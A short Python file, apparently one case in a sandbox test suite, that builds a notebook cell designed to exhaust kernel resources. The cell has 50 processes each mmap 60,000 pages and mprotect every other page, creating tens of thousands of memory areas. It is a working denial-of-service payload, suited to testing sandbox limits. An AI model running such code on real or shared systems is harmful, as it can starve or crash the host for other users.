"""Splits the memory of many processes into tens of thousands of areas, each of which the kernel has to know.

It counts with what they hold themselves.
"""

from attacks import CROWD, PROBES, Files, Notebook, with_cell

KIND = "exhaustion"

CELL = (
    PROBES
    + CROWD
    + r"""
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]
libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
count = 60_000
start = libc.mmap(None, count * 4096, 3, 0x22, -1, 0)
def take(have):
    for place in range(0, count, 2):
        libc.mprotect(start + place * 4096, 4096, 1)
    have()
crowd(50, take)
"""
)


def hand_in(notebook: Notebook) -> Files:
    return with_cell(notebook, CELL)
